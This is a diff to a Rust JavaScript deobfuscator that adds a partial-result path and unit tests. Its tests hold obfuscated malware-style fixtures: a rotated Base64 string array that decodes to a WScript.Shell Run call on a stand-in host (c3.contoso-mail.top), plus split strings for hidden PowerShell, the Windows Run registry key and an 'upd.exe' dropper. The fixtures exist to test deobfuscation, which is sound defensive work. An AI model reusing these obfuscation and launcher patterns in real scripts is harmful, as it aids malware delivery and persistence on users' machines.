@@ -13,6 +13,7 @@ mod machine;
 mod names;
 mod natives;
 mod nesting;
+mod news;
 mod number;
 mod operate;
 mod parse;
@@ -43,6 +44,8 @@ struct Progress {
     /// Names of declarations that only serve to decode.
     machinery: BTreeSet<String>,
     rounds: usize,
+    /// Texts that were read where none stood.
+    texts: usize,
     hosts: Hosts,
 }
 
@@ -70,12 +73,13 @@ pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
         // What is no longer needed need not be run again.
         current = Some(without_machinery(&next, &progress.machinery, budget).unwrap_or(next));
     }
-    if let Some(done) = current.filter(|_| progress.weight >= ENOUGH) {
-        let tidy = tidied(&done, budget).unwrap_or(done);
-        let steps = progress.counts.into_iter().collect();
-        return Rewrite { text: Some(tidy), steps, found: Vec::new() };
+    let is_enough = progress.weight >= ENOUGH;
+    let steps = progress.counts.into_iter().collect();
+    if is_enough && let Some(done) = current {
+        return Rewrite { text: Some(tidied(done, budget)), steps, ..Rewrite::default() };
     }
-    Rewrite { text: None, steps: Vec::new(), found: trace::found(text, budget) }
+    let slight = current.filter(|_| progress.texts > 0);
+    Rewrite { slight, steps, found: trace::found(text, budget), ..Rewrite::default() }
 }
 
 /// One round of folding; None if nothing is left to be folded.
@@ -97,10 +101,10 @@ fn without_machinery(text: &str, machinery: &BTreeSet<String>, budget: &mut Budg
 }
 
 /// Printed so that it can be read.
-fn tidied(text: &str, budget: &mut Budget) -> Option<String> {
+pub fn tidied(text: String, budget: &mut Budget) -> String {
     let allocator = Allocator::default();
-    let program = parse::program(&allocator, text, budget).filter(parse::is_shallow)?;
-    Some(Codegen::new().build(&program).code)
+    let program = parse::program(&allocator, &text, budget).filter(parse::is_shallow);
+    program.map(|program| Codegen::new().build(&program).code).unwrap_or(text)
 }
 
 #[cfg(test)]
@@ -113,6 +117,132 @@ mod tests {
         let done = undo(&text, &mut Budget::new(text.len())).text.unwrap_or_default();
         let inner = done.lines().last().and_then(|line| line.strip_prefix("x(")?.strip_suffix(");"));
         inner.unwrap_or_default().to_owned()
+    }
+
+    /// Texts in Base64 in a list that is turned once, and what fetches them.
+    const STUB: &str = r#"
+        var l = ['aHR0cDovL2MzLmNvbnRvc28tbWFpbC50b3AveA==', 'V1NjcmlwdC5TaGVsbA==', 'UnVu'];
+        (function(a, n) { var t = function(i) { while (--i) { a['push'](a['shift']()); } }; t(++n); }(l, 1));
+        var d = function(i) {
+            i = i - 0;
+            var v = l[i];
+            if (d['is'] === undefined) {
+                (function() {
+                    var g;
+                    try {
+                        g = Function('return (function() ' + '{}.constructor("return this")( )' + ');')();
+                    } catch (e) { g = window; }
+                    g['atob'] || (g['atob'] = function(x) { return x; });
+                }());
+                d['of'] = function(x) {
+                    var b = atob(x), h = '';
+                    for (var j = 0; j < b.length; j++) { h += '%' + ('00' + b.charCodeAt(j).toString(16)).slice(-2); }
+                    return decodeURIComponent(h);
+                };
+                d['known'] = {};
+                d['is'] = !![];
+            }
+            var k = d['known'][i];
+            if (k === undefined) { v = d['of'](v); d['known'][i] = v; } else { v = k; }
+            return v;
+        };
+    "#;
+
+    #[test]
+    fn a_decoder_in_a_variable_that_asks_for_the_global_object_is_undone() {
+        let text = format!("{STUB}\nnew ActiveXObject(d('0x0'))[d('0x1')](d('0x2'), d('0x0'), d('0x1'));");
+        let done = undo(&text, &mut Budget::new(text.len()));
+        let clear =
+            "new ActiveXObject(\"WScript.Shell\").Run(\"http://c3.contoso-mail.top/x\", \"WScript.Shell\", \"Run\");\n";
+        assert_eq!(done.text.as_deref(), Some(clear));
+        assert!(done.steps.iter().any(|step| step.0 == Technique::StringArray), "{:?}", done.steps);
+    }
+
+    #[test]
+    fn the_way_to_the_global_object_is_nothing_hidden() {
+        // Whatever else of the text is not known.
+        let text = format!("{}\nx(d(y));", STUB.replace("i = i - 0", "i = i - z"));
+        let done = undo(&text, &mut Budget::new(text.len()));
+        assert!(done.text.is_none() && done.found.is_empty(), "{done:?}");
+    }
+
+    #[test]
+    fn code_made_of_a_text_does_not_take_the_steps_of_the_rest() {
+        for busy in ["while (true) {}", "for (;;) {}", "var i = 0; while (i < 1) i -= 1;"] {
+            let text = format!(
+                "function f() {{ return Function(\"{busy}\")(); }}\nx(f());\nx('ht' + 'tp://c3.contoso-mail.top');"
+            );
+            let mut budget = Budget::new(text.len());
+            let done = undo(&text, &mut budget);
+            assert!(done.text.is_some_and(|text| text.contains("http://c3")), "{busy}");
+            assert!(budget.steps_used() < 20_000_000, "{}", budget.steps_used());
+        }
+    }
+
+    #[test]
+    fn code_made_of_a_text_sees_what_the_whole_text_declares() {
+        assert_eq!(becomes("Function('a', 'b', 'return a + b')('p', 'q')"), "\"pq\"");
+        for left in [
+            "(function() { var hidden = 'in'; return Function('return hidden')() + ''; })()",
+            "(function() { var unescape = (t) => t; return Function('return unescape(\"%41\")')(); })() + y",
+            "Function('y = 1; return \"a\" + y')()",
+            "Function('}, function() { return \"a\"')()",
+            "eval('\"a\"') + \"b\"",
+        ] {
+            let done = becomes(left);
+            assert!(done.is_empty() || done.contains("Function(") || done.contains("eval("), "{left}: {done}");
+        }
+        let text = "var w = String.fromCharCode(104, 116, 116, 112);\nx(w);\nfunction atob(t) {\n\treturn t;\n}\nx(Function(\"return atob('QUI=')\")());";
+        let done = undo(text, &mut Budget::new(text.len())).text.unwrap_or_default();
+        assert!(!done.contains("AB"), "{done}");
+    }
+
+    #[test]
+    fn few_foldings_count_where_they_say_something_new() {
+        for (text, clear) in [
+            ("WScript.Echo(\"ht\"+\"tp://c3.contoso-mail.top/z\");", "http://c3.contoso-mail.top/z"),
+            ("x(\"http\" + \"://c3.contoso-mail.top/z\");", "http://c3.contoso-mail.top/z"),
+            ("x(['c3.conto', 'so-mail.top'].join(''));", "c3.contoso-mail.top"),
+            ("var a = 'power'; x(a + 'shell -w 1');", "powershell -w 1"),
+            (
+                "x('HKCU\\\\Softw' + 'are\\\\Microsoft\\\\Windows\\\\Current' + 'Version\\\\Run');",
+                "CurrentVersion\\\\Run",
+            ),
+            ("x(p + '\\\\up' + 'd.e' + 'xe');", "upd.exe"),
+        ] {
+            let done = undo(text, &mut Budget::new(text.len())).text.unwrap_or_default();
+            assert!(done.contains(clear), "{text}: {done}");
+        }
+    }
+
+    #[test]
+    fn few_foldings_of_honest_scripts_do_not_count() {
+        for text in [
+            "x('http:' + '//www.example.com/s.js');",
+            "x('<a href=\"http:\\/\\/www.example.com\">' + 'text');",
+            "var base = 'https://api.example.com'; x(base + '/v1');",
+            "var scheme = 'https'; x(scheme + '://api.example.com/v1');",
+            "var host = 'api.example.com'; x('https://' + host + '/v1');",
+            "x('mail' + '@' + 'example' + '.com');",
+            "x('node' + '.exe', 'C:\\\\Windows' + '\\\\System32');",
+            "x('a long text that is ' + 'broken where a line ends');",
+            "x(60 * 60 * 24, ['jquery', 'min', 'js'].join('.'));",
+            "var l = ['one', 'two']; function f(i) { return l[i]; } x(f(0), f(1));",
+            "var l = ['January', 'May']; function f(i) { return l[i].slice(0, 3).toUpperCase(); } x(f(0));",
+        ] {
+            let done = undo(text, &mut Budget::new(text.len()));
+            assert!(done.text.is_none(), "{text}: {done:?}");
+        }
+    }
+
+    #[test]
+    fn a_list_that_is_turned_or_decoded_counts_however_few_it_has() {
+        let turned = "var l = ['Run', 'Shell', 'log'];\n(function(a, n) {\n\tvar t = function(i) {\n\t\twhile (--i) {\n\t\t\ta['push'](a['shift']());\n\t\t}\n\t};\n\tt(++n);\n}(l, 1));\nvar d = function(i) {\n\treturn l[i - 0];\n};\nx(d('0x0'));\n";
+        let done = undo(turned, &mut Budget::new(turned.len())).text;
+        assert_eq!(done.as_deref(), Some("x(\"Shell\");\n"));
+        let decoded = "var l = ['UnVu'];\nfunction d(i) {\n\treturn atob(l[i]);\n}\nx(d(0));\n";
+        let done = undo(decoded, &mut Budget::new(decoded.len())).text;
+        assert_eq!(done.as_deref(), Some("x(\"Run\");\n"));
     }
 
     /// As Node.js has them.
